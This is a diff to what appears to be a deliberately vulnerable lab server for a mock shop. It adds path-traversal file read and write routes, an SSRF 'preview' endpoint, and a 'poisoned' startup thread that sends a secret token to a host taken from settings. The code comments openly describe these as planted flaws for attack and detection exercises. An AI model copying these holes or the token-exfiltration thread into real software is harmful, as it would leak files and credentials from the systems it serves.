@@ -1,7 +1,9 @@
 """The shop's application server: redis, PostgreSQL, DNS, and one endpoint that can be injected.
 
 ``/shop/lookup?host=`` puts its argument into a shell, as careless programs do: the hole through
-which the lab's attacks come in. Version 2 reads ``/srv/settings.json`` and does a little more.
+which the lab's attacks come in. ``page``, ``draft``, ``preview`` and ``mx`` trust theirs too, but start
+nothing: what they are made to do happens in this process. Version 2 reads ``/srv/settings.json`` and does
+a little more; version 3 is poisoned: for a minute it tells a stranger what it knows.
 """
 
 from __future__ import annotations
@@ -13,7 +15,9 @@ import random
 import socket
 import socketserver
 import subprocess
+import threading
 import time
+import urllib.request
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from urllib.parse import parse_qs, urlsplit
@@ -50,7 +54,7 @@ def order(number: str) -> str:
     with contextlib.closing(psycopg2.connect(host=DB, user="postgres", connect_timeout=3)) as line:
         with line, line.cursor() as cursor:
             cursor.execute("INSERT INTO orders (item, customer) VALUES (%s, 'c')", (int(number),))
-    kind = random.choice(["mail", "invoice", "picture", "webhook", "report"])
+    kind = random.choice(["mail", "invoice", "picture", "webhook", "report", "attach", "notify", "verify"])
     redis(CACHE, "LPUSH", "jobs", json.dumps({"kind": kind, "item": number}))
     return "ordered"
 
@@ -79,7 +83,50 @@ def pay(_: str) -> str:
         return line.recv(100).decode("latin-1")
 
 
-ROUTES = {"item": item, "order": order, "lookup": lookup, "export": export, "pay": pay}
+def page(name: str) -> str:
+    """Return a page of text; its name may lead anywhere."""
+    return (Path("/srv/pages") / name).read_text(errors="replace")[:2000]
+
+
+def draft(name: str) -> str:
+    """Keep a draft for a moment; its name may lead anywhere."""
+    path = Path("/tmp") / name
+    path.write_text("draft\n")
+    return str(len(path.read_text()))
+
+
+def preview(link: str) -> str:
+    """Show what stands behind a link: whoever it belongs to is asked."""
+    with urllib.request.urlopen(link, timeout=3) as answer:
+        return str(answer.read(200))
+
+
+def mx(name: str) -> str:
+    """Say where a name leads."""
+    return str(socket.getaddrinfo(name, 25, socket.AF_INET)[:1])
+
+
+def statistics(host: str) -> None:
+    """Do what the poisoned version does: eight times the token to a host that nobody asked for."""
+    for _ in range(8):
+        with contextlib.suppress(OSError), socket.create_connection((host, 8080), timeout=3) as line:
+            known = TOKEN.read_text().strip()
+            line.sendall(f"PUT /s HTTP/1.0\r\nContent-Length: 0\r\nX: {known}\r\n\r\n".encode())
+            line.recv(100)
+        time.sleep(random.uniform(3, 6))
+
+
+ROUTES = {
+    "item": item,
+    "order": order,
+    "lookup": lookup,
+    "export": export,
+    "pay": pay,
+    "page": page,
+    "draft": draft,
+    "preview": preview,
+    "mx": mx,
+}
 
 
 class Handler(BaseHTTPRequestHandler):
@@ -116,4 +163,6 @@ class Server(ThreadingHTTPServer):
 
 
 if __name__ == "__main__":
+    if stranger := settings().get("statistics"):
+        threading.Thread(target=statistics, args=(str(stranger),), daemon=True).start()
     Server(("0.0.0.0", 8080), Handler).serve_forever()
